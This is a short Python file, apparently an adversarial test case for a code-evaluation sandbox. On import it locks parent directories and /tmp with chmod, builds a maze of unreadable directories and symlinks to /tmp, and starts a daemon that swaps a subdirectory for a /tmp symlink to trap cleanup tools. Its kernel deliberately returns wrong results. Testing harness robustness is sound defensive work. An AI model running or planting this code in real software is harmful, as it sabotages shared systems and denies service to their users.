"""chmod of parents: lock the work dir's parents (0000) and /tmp (0700), and leave a maze for the
remover: 0000 dirs, read-only files, symlinks to /tmp and its parents named like subdirs, and a
daemon that keeps swapping a subdir for a symlink to /tmp (a remover that chmods through a link
locks the machine's /tmp)."""
from hostile import *

_here = os.getcwd()
_up = _here
for _ in range(3):
    _up = os.path.dirname(_up)
    if not _up.startswith("/tmp/"):  # a good citizen: never the machine's own dirs ("/")
        break
    with contextlib.suppress(OSError):
        os.chmod(_up, 0)
with contextlib.suppress(OSError):
    os.chmod("/tmp", 0o700)
for _i in range(20):
    _d = os.path.join(_here, f"maze{_i}", "deeper")
    with contextlib.suppress(OSError):
        os.makedirs(_d)
        open(os.path.join(_d, "ro"), "w").close()
        os.chmod(os.path.join(_d, "ro"), 0)
        os.symlink("/tmp", os.path.join(_d, "tmp"))
        os.chmod(_d, 0)
        os.chmod(os.path.dirname(_d), 0o500)
with contextlib.suppress(OSError):
    os.symlink("/tmp", os.path.join(_here, "zz-link-to-tmp"))


def _swap():
    end = time.monotonic() + LINGER_S
    sub = os.path.join(_here, "swap")
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            os.mkdir(sub)
        with contextlib.suppress(OSError):
            os.rmdir(sub)
            os.symlink("/tmp", sub)
        with contextlib.suppress(OSError):
            os.unlink(sub)


daemonize(_swap)


def custom_kernel(data):
    return wrong(data)
